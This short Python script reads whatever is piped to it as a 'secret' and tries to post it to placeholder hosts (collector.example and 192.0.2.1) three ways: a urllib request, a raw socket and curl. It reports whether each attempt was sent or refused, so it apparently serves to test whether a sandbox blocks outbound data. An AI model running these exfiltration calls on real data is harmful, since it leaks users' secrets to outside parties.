"""Posts what it was given to somebody else, in three ways."""
import socket
import subprocess
import sys
import urllib.request

secret = sys.stdin.read()
try:
    urllib.request.urlopen("https://collector.example/", data=secret.encode(), timeout=5)
    print("SENT by urllib")
except Exception as error:
    print("refused urllib", error)
try:
    socket.create_connection(("192.0.2.1", 443), timeout=5).sendall(secret.encode())
    print("SENT by socket")
except Exception as error:
    print("refused socket", error)
try:
    print("SENT by curl", subprocess.run(["curl", "-d", secret, "https://collector.example/"], check=True))
except Exception as error:
    print("refused curl", error)
